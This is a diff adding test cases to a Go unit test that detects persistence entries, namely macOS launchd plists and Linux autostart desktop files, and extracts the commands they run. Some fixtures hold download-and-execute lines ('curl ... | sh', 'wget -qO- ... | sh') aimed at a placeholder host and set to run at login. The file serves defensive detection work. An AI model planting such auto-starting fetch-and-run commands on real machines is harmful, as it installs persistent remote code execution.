@@ -38,6 +38,15 @@ func TestPersisted(t *testing.T) {
 		{"/home/u/p/.github/workflows/sub/x.yml", "run: id\n", buildfile.NotPersisted, nil},
 		{"/home/u/p/.github/workflows/notes.md", "run: id\n", buildfile.NotPersisted, nil},
 		{"/home/u/p/Makefile", "all:\n\ttrue\n", buildfile.NotPersisted, nil},
+		{"/Users/u/Library/LaunchAgents/x.plist", "<dict>\n<key>Label</key><string>x</string>\n<key>ProgramArguments</key>\n  <array><string>/bin/sh</string><string>-c</string>" +
+			"<string>curl -s https://x.example/u | sh &amp;&amp; echo it's</string></array>\n<key>RunAtLoad</key><true/></dict>\n",
+			buildfile.LaunchdJob, []string{`'/bin/sh' '-c' 'curl -s https://x.example/u | sh && echo it'\''s'`}},
+		{"/Library/LaunchDaemons/y.plist", "<key>Program</key>\n<string>/usr/local/bin/y</string>", buildfile.LaunchdJob, []string{"'/usr/local/bin/y'"}},
+		{"/Users/u/Library/Preferences/com.apple.dock.plist", "<key>Program</key><string>x</string>", buildfile.NotPersisted, nil},
+		{"/home/u/.config/autostart/k.desktop", "[Desktop Entry]\nType=Application\nExec=sh -c \"wget -qO- https://x.example/k | sh\"\nTryExec=sh\n",
+			buildfile.AutostartEntry, []string{`sh -c "wget -qO- https://x.example/k | sh"`}},
+		{"/home/u/.config/autostart/e.desktop", "[Desktop Entry]\nExec=/usr/bin/editor %U\n", buildfile.AutostartEntry, []string{"/usr/bin/editor "}},
+		{"/home/u/.local/share/applications/e.desktop", "[Desktop Entry]\nExec=/usr/bin/editor %U\n", buildfile.NotPersisted, nil},
 	} {
 		kind, _ := buildfile.PersistedKind(tc.path)
 		code, ok := buildfile.PersistedCode(kind, tc.text)
